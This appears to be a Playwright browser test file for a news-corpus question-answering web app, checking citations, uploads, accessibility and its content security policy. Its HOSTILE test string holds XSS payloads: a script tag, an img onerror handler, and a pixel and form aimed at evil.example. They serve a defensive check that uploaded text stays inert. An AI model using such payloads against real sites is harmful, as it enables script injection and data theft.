"""The app in a real browser (Debian's chromium driven by Playwright): ask, read sources,
follow up, upload an article and ask what only it answers, with hostile text kept inert."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, sync_playwright

from tests.conftest import ROOT, SEED_CORPUS, serve_app, write
from tests.documents import make_pdf

CHROMIUM = Path("/usr/bin/chromium")
AXE = ROOT / ".venv" / "axe" / "node_modules" / "axe-core" / "axe.min.js"
"""axe-core from npm, installed by `make test` (the Makefile's browser target)."""
ARTIFACTS = ROOT / "test-artifacts"
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
HOSTILE = (
    "Harbour master Omar Haddad said the grain convoy left Tartus at dawn "
    '<script>window.__pwned = "script"</script> <img src=x onerror="window.__pwned = \'img\'"> '
    '![pixel](http://evil.example/pixel.png) <form action="http://evil.example/steal"><input name=q></form> '
    "[click](javascript:window.__pwned='link') [data](data:text/html,<b>hi</b>) **[7]** under naval escort.\n"
)

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="chromium is installed by `make test`")


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Page, Path, list[str]]]:
    folder = tmp_path_factory.mktemp("browser")
    shutil.copytree(SEED_CORPUS, folder / "corpus")
    with serve_app(folder / "corpus", folder / "index") as server, sync_playwright() as playwright:
        url = server.url
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url.rstrip("/"))
        page = context.new_page()
        foreign: list[str] = []
        page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith(url) else None)
        page.goto(url)
        page.wait_for_selector("#question textarea", timeout=60_000)
        yield page, folder / "corpus", foreign
        browser.close()


def ask(page: Page, question: str, expect: str) -> None:
    page.fill("#question textarea", question)
    page.press("#question textarea", "Enter")
    page.locator("#chat").get_by_text(expect).last.wait_for(timeout=60_000)


def new_conversation(page: Page) -> None:
    page.click("text=New conversation")
    page.wait_for_function("() => !document.querySelector('#chat .message')")


def test_ask_read_sources_follow_up(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    ask(browser, "Which aircraft carried out the strikes?", "F-16 aircraft")
    assert "[1][2]" in browser.inner_text("#chat")
    browser.wait_for_selector("#sources .qa-source mark")
    assert "F-15" in browser.inner_text("#sources mark >> nth=0")
    assert "sources agree" in browser.inner_text("#sources")
    browser.locator("#pick label").nth(1).click()
    browser.wait_for_selector("#context .qa-focus mark")
    assert browser.locator("#context .qa-para").count() >= 3
    ARTIFACTS.mkdir(exist_ok=True)
    browser.screenshot(path=str(ARTIFACTS / "answer.png"), full_page=True)
    ask(browser, "Who is Yair Lapid?", "Lapid, who said")
    ask(browser, "What did he say about the accord?", "serious reservations")


def test_clicking_a_marker_opens_that_source_and_older_answers_keep_theirs(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    new_conversation(browser)
    ask(browser, "Which aircraft carried out the strikes?", "F-16 aircraft")
    second = browser.locator('#chat a[href^="#cite-0-2"]')
    assert "F-16" in second.get_attribute("title")
    second.click()
    browser.wait_for_selector('#sources .qa-chosen[data-n="2"]')
    browser.wait_for_function(
        "() => document.querySelector('#context .qa-focus mark')?.innerText.includes('F-15 and F-16 jet aircraft')"
    )
    ask(browser, "Who is Yair Lapid?", "Lapid, who said")
    browser.wait_for_function("() => !document.querySelector('#sources').innerText.includes('F-16')")
    browser.locator("#chat div.bot.message").first.click()
    browser.wait_for_function("() => document.querySelector('#sources').innerText.includes('F-16')")


def test_a_standalone_question_after_another_is_searched_as_typed(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    new_conversation(browser)
    ask(browser, "Who is Yair Lapid?", "Lapid, who said")
    ask(browser, "Who ordered the strikes?", "Biden")
    assert "Searched for" not in browser.inner_text("#chat")
    ask(browser, "What did he say?", "Searched for: What did")


def test_empty_submit_leaves_the_page_as_it_was(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    new_conversation(browser)
    ask(browser, "Which aircraft carried out the strikes?", "F-16 aircraft")
    before = browser.inner_text("#chat")
    browser.fill("#question textarea", "   ")
    browser.press("#question textarea", "Enter")
    browser.get_by_text("Type a question first").first.wait_for(timeout=10_000)
    assert browser.locator(".error").count() == 0
    assert browser.inner_text("#chat") == before
    assert "F-15" in browser.inner_text("#sources")
    ask(browser, "Who is Yair Lapid?", "Lapid, who said")


def test_a_filter_by_article_changes_the_answer(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    new_conversation(browser)
    ask(browser, "Which aircraft carried out the strikes?", "F-16 aircraft")
    browser.click("#filters button, #filters .label-wrap")
    browser.click("#filter-articles input")
    browser.get_by_role("option", name="001_7c084e74566a1192", exact=False).click()
    browser.press("#filter-articles input", "Escape")
    ask(browser, "Which aircraft carried out the strikes?", "F-15 and F-16 fighter jets")
    assert all("001_7c084e74566a1192" in t for t in browser.locator("#sources .qa-meta").all_inner_texts())
    browser.locator("#filter-articles .token-remove, #filter-articles [aria-label^='Remove']").first.click()
    browser.wait_for_function("() => !document.querySelector('#filter-articles .token')")


def test_copy_and_export_give_clean_text_with_sources(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    new_conversation(browser)
    ask(browser, "Which aircraft carried out the strikes?", "F-16 aircraft")
    browser.click("#copy-answer")
    browser.wait_for_function("() => document.querySelector('#copy-payload textarea').value.includes('Sources:')")
    text = browser.input_value("#copy-payload textarea")
    assert "[1][2]" in text
    assert "\\" not in text
    assert "**" not in text
    assert "[2] " in text.split("Sources:")[1]
    assert "¶" in text
    assert browser.evaluate("() => navigator.clipboard.readText()") == text
    browser.click("#export-md")
    link = browser.locator("#export a").first
    link.wait_for(timeout=30_000)
    exported = browser.request.get(link.get_attribute("href")).text()
    assert exported.startswith("# corpus-qa conversation")
    assert "## Which aircraft carried out the strikes?" in exported
    assert "**Sources**" in exported
    assert "> The U.S. military carried out strikes" in exported


def contrast(page: Page, selector: str) -> float:
    """WCAG contrast ratio of an element's text colour against the first opaque background
    behind it (its own, or an ancestor's)."""
    return page.evaluate(
        """(selector) => {
        const rgba = (c) => c.match(/[\\d.]+/g).map(Number);
        const lum = (c) => { const v = rgba(c).slice(0, 3).map((x) => { x /= 255;
          return x <= 0.03928 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4; });
          return 0.2126 * v[0] + 0.7152 * v[1] + 0.0722 * v[2]; };
        const element = document.querySelector(selector);
        let back = element, fill = "rgb(255, 255, 255)";
        while (back) {
          const c = getComputedStyle(back).backgroundColor, parts = rgba(c);
          if (parts.length === 3 || parts[3] > 0.5) { fill = c; break; }
          back = back.parentElement;
        }
        const [a, b] = [lum(getComputedStyle(element).color), lum(fill)].sort((x, y) => y - x);
        return (a + 0.05) / (b + 0.05);
    }""",
        selector,
    )


def test_highlighted_quotes_are_readable_in_dark_mode(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    dark = browser.context.new_page()
    dark.goto(browser.url.split("?")[0] + "?__theme=dark")
    dark.wait_for_selector("#question textarea", timeout=60_000)
    ask(dark, "Which aircraft carried out the strikes?", "F-16 aircraft")
    dark.wait_for_selector("#sources mark")
    assert contrast(dark, "#sources mark") >= 4.5
    ARTIFACTS.mkdir(exist_ok=True)
    dark.screenshot(path=str(ARTIFACTS / "answer-dark.png"), full_page=True)
    phone = browser.context.browser.new_page(viewport={"width": 390, "height": 844}, is_mobile=True)
    phone.goto(browser.url.split("?")[0])
    phone.wait_for_selector("#question textarea", timeout=60_000)
    ask(phone, "Which aircraft carried out the strikes?", "F-16 aircraft")
    phone.wait_for_selector("#sources mark")
    phone.screenshot(path=str(ARTIFACTS / "answer-phone.png"), full_page=True)
    phone.close()
    dark.get_by_role("tab", name="Articles").click()
    dark.wait_for_selector("#add")
    assert contrast(dark, "#add") >= 4.5
    dark.close()


def serious_violations(page: Page) -> list[str]:
    """axe-core's critical and serious findings, once no component is still updating (a
    pending output is drawn faded, which would read as low contrast)."""
    page.wait_for_function("() => !document.querySelector('.pending, .generating, .eta-bar')")
    page.wait_for_timeout(300)
    page.evaluate(AXE.read_text(encoding="utf-8"))  # not a <script> tag: the page's policy refuses those
    found = page.evaluate("async () => (await axe.run(document, {resultTypes: ['violations']})).violations")
    return [
        f"{v['id']} ({v['impact']}): {v['nodes'][0]['target']} {v['nodes'][0].get('failureSummary', '')[:160]}"
        for v in found
        if v["impact"] in ("critical", "serious")
    ]


@pytest.mark.skipif(not AXE.exists(), reason="axe-core is installed by `make test`")
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_ask_and_articles_tabs_have_no_serious_accessibility_violations(
    page: tuple[Page, Path, list[str]], theme: str
) -> None:
    browser, _, _ = page
    tab = browser.context.new_page()
    tab.goto(browser.url.split("?")[0] + f"?__theme={theme}")
    tab.wait_for_selector("#question textarea", timeout=60_000)
    ask(tab, "Which aircraft carried out the strikes?", "F-16 aircraft")
    tab.wait_for_selector("#context .qa-focus")
    assert serious_violations(tab) == []
    tab.get_by_role("tab", name="Articles").click()
    tab.wait_for_selector("#add")
    tab.wait_for_timeout(500)
    assert serious_violations(tab) == []
    tab.close()


def test_upload_rebuild_and_ask_the_new_article(page: tuple[Page, Path, list[str]], tmp_path: Path) -> None:
    browser, corpus, foreign = page
    before = {p.name: p.read_bytes() for p in corpus.iterdir()}
    browser.get_by_role("tab", name="Articles").click()
    browser.locator("#upload input[type=file]").set_input_files(
        [str(write(tmp_path, "convoy.txt", HOSTILE)), str(write(tmp_path, "blob.txt", b"\x00\xff" * 500))]
    )
    browser.locator("#upload").get_by_text("blob", exact=True).wait_for(timeout=30_000)
    browser.click("#add")
    report = browser.locator("#report textarea")
    browser.wait_for_function(
        "() => document.querySelector('#report textarea').value.includes('Indexed')", timeout=120_000
    )
    text = report.input_value()
    assert "added: convoy.txt saved" in text
    assert "refused: blob.txt: binary file" in text
    assert {p.name for p in corpus.iterdir()} == {*before, "convoy.txt"}
    assert all((corpus / name).read_bytes() == data for name, data in before.items())
    browser.wait_for_function("() => !document.querySelector('#upload').innerText.includes('blob')")
    assert "beside the unchanged base" not in text
    browser.get_by_role("tab", name="Ask").click()
    ask(browser, "Who is the harbour master of Tartus?", "Omar Haddad")
    browser.wait_for_selector("#sources .qa-source")
    assert "convoy" in browser.inner_text("#sources")
    for area in ("#chat", "#sources", "#context"):
        assert browser.locator(f"{area} script, {area} form, {area} img[src^='http'], {area} img[src='x']").count() == 0
        assert browser.locator(f"{area} a[href^='javascript'], {area} a[href^='data']").count() == 0
    assert "<script>" in browser.inner_text("#sources")
    assert browser.evaluate("() => window.__pwned") is None
    assert not [u for u in foreign if "evil.example" in u]


def test_an_uploaded_pdf_is_answered_with_a_page_numbered_citation(
    page: tuple[Page, Path, list[str]], tmp_path: Path
) -> None:
    browser, corpus, _ = page
    pdf = make_pdf(
        [
            ["Port authority bulletin", "The grain convoy left Tartus at dawn under naval escort."],
            ["Officials said the ships reached Latakia by noon.", "Pilot Lina Sabbagh guided the first tanker in."],
        ],
        title="Port bulletin",
    )
    browser.get_by_role("tab", name="Articles").click()
    browser.locator("#upload input[type=file]").set_input_files([str(write(tmp_path, "bulletin.pdf", pdf))])
    browser.locator("#upload").get_by_text("bulletin", exact=False).first.wait_for(timeout=30_000)
    browser.click("#add")
    browser.wait_for_function(
        "() => document.querySelector('#report textarea').value.includes('bulletin')", timeout=120_000
    )
    assert "added: bulletin.pdf" in browser.input_value("#report textarea")
    assert (corpus / "bulletin.pdf").read_bytes() == pdf
    browser.get_by_role("tab", name="Ask").click()
    new_conversation(browser)
    ask(browser, "Who guided the first tanker in?", "Lina Sabbagh")
    browser.wait_for_function("() => document.querySelector('#sources').innerText.includes('p. 2 ¶')")
    assert "Port bulletin" in browser.inner_text("#sources")


def test_remove_asks_first_and_a_removed_article_can_be_restored(page: tuple[Page, Path, list[str]]) -> None:
    browser, corpus, _ = page
    browser.get_by_role("tab", name="Articles").click()
    header = browser.locator("#articles th", has_text="paragraphs").first
    assert header.bounding_box()["height"] < 60, "the header wraps letter by letter"
    asked: list[str] = []
    for accept in (False, True):

        def answer(dialog, accept: bool = accept) -> None:
            asked.append(dialog.message)
            dialog.accept() if accept else dialog.dismiss()

        browser.click("#remove-choice input")
        browser.get_by_role("option", name="(003_f229a520fc9a1687)", exact=False).click()
        browser.once("dialog", answer)
        browser.click("#remove")
        done = "can be restored" if accept else "Pick an indexed article"
        browser.wait_for_function(
            f"() => document.querySelector('#report textarea').value.includes('{done}')", timeout=60_000
        )
        assert (corpus / "003_f229a520fc9a1687.txt").exists() is not accept
    assert len(asked) == 2
    assert "Remove 003_f229a520fc9a1687 from the corpus?" in asked[0]
    browser.click("#restore-choice input")
    browser.get_by_role("option", name="003_f229a520fc9a1687.txt (removed", exact=False).click()
    browser.click("#restore")
    browser.wait_for_function(
        "() => document.querySelector('#report textarea').value.includes('003_f229a520fc9a1687.txt restored')",
        timeout=60_000,
    )
    assert (corpus / "003_f229a520fc9a1687.txt").exists()
    browser.wait_for_function("() => document.querySelector('#articles').innerText.includes('003_f229a520fc9a1687')")
    browser.get_by_role("tab", name="Ask").click()


def test_passage_search_mode_highlights_the_query(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    browser.get_by_role("tab", name="Search passages").click()
    browser.fill("#query textarea", "Kataib Hezbollah drones")
    browser.press("#query textarea", "Enter")
    browser.wait_for_selector("#results .qa-source mark")
    marked = {m.lower() for m in browser.locator("#results mark").all_inner_texts()}
    assert {"kataib", "hezbollah"} & marked
    assert "the" not in marked
    browser.get_by_role("tab", name="Ask").click()


def test_read_an_article_with_its_dropped_lines_and_set_its_details(page: tuple[Page, Path, list[str]]) -> None:
    browser, corpus, _ = page
    before = (corpus / "002_dcffd605a21db99b.txt").read_bytes()
    browser.get_by_role("tab", name="Articles").click()
    browser.click("#reader .label-wrap")
    browser.click("#reader-choice input")
    browser.get_by_role("option", name="(002_dcffd605a21db99b)", exact=False).click()
    browser.wait_for_selector("#article-view .qa-para")
    assert browser.locator("#article-view .qa-para").count() >= 10
    browser.click("#reader-dropped input")
    browser.wait_for_function("() => document.querySelector('#article-view').innerText.includes('Dropped while')")
    browser.fill("#edit-title textarea, #edit-title input", "Biden orders second round of strikes")
    browser.fill("#edit-source textarea, #edit-source input", "Al Jazeera")
    browser.fill("#edit-date textarea, #edit-date input", "2021-06-28")
    browser.click("#save-details")
    browser.wait_for_function(
        "() => document.querySelector('#report textarea').value.includes('details of 002_dcffd605a21db99b saved')",
        timeout=60_000,
    )
    browser.wait_for_function(
        "() => document.querySelector('#articles').innerText.includes('Biden orders second round of strikes')"
    )
    assert "Al Jazeera" in browser.inner_text("#articles")
    assert (corpus / "002_dcffd605a21db99b.txt").read_bytes() == before
    browser.get_by_role("tab", name="Ask").click()


def test_a_saved_conversation_survives_a_restart(page: tuple[Page, Path, list[str]], tmp_path: Path) -> None:
    shutil.copytree(SEED_CORPUS, tmp_path / "corpus")
    browser = page[0].context.browser
    for run in ("first", "after restart"):
        with serve_app(tmp_path / "corpus", tmp_path / "index") as server:
            tab = browser.new_page(viewport={"width": 1400, "height": 1000})
            tab.on("dialog", lambda dialog: dialog.accept())
            tab.goto(server.url)
            tab.wait_for_selector("#question textarea", timeout=60_000)
            if run == "first":
                ask(tab, "Which aircraft carried out the strikes?", "F-16 aircraft")
                ask(tab, "Who is Yair Lapid?", "Lapid, who said")
                continue
            tab.click("#saved .label-wrap")
            tab.click("#saved-list input")
            tab.get_by_role("option", name="Which aircraft carried out the strikes?", exact=False).click()
            tab.click("#saved-open")
            tab.locator("#chat").get_by_text("Lapid, who said").wait_for(timeout=30_000)
            assert "F-16 aircraft" in tab.inner_text("#chat")
            tab.locator('#chat a[href^="#cite-0-2"]').click()
            tab.wait_for_selector('#sources .qa-chosen[data-n="2"]')
            tab.fill("#saved-title textarea, #saved-title input", "Strikes and Lapid")
            tab.click("#saved-rename")
            tab.wait_for_function(
                "() => document.querySelector('#saved-list input').value.startsWith('Strikes and Lapid')"
            )
            tab.click("#saved-delete")
            tab.wait_for_function("() => !document.querySelector('#saved-list input').value")
            tab.click("#saved-list input")
            assert tab.get_by_role("option", name="Strikes and Lapid", exact=False).count() == 0
            tab.close()


def test_the_page_works_under_its_content_security_policy(page: tuple[Page, Path, list[str]]) -> None:
    """The policy refuses inline scripts but Gradio's own: nothing on the page is refused,
    and an answer with citations still renders and opens its source."""
    tab = page[0].context.new_page()
    refused: list[str] = []
    tab.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
    response = tab.goto(page[0].url.split("?")[0])
    assert response is not None
    headers = response.headers
    assert "'unsafe-inline'" not in headers["content-security-policy"].split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    tab.wait_for_selector("#question textarea", timeout=60_000)
    ask(tab, "Which aircraft carried out the strikes?", "F-16 aircraft")
    tab.locator('#chat a[href^="#cite-"]').first.click()
    tab.wait_for_selector("#sources .qa-chosen")
    assert refused == []
    refused_inline = tab.evaluate(
        """() => new Promise(done => {
            document.addEventListener('securitypolicyviolation', e => done(e.violatedDirective), {once: true});
            const s = document.createElement('script'); s.textContent = 'window.__ran = 1'; document.body.append(s);
            setTimeout(() => done(window.__ran ? 'ran' : 'silent'), 2000);
        })"""
    )
    assert refused_inline.startswith("script-src")
    tab.close()
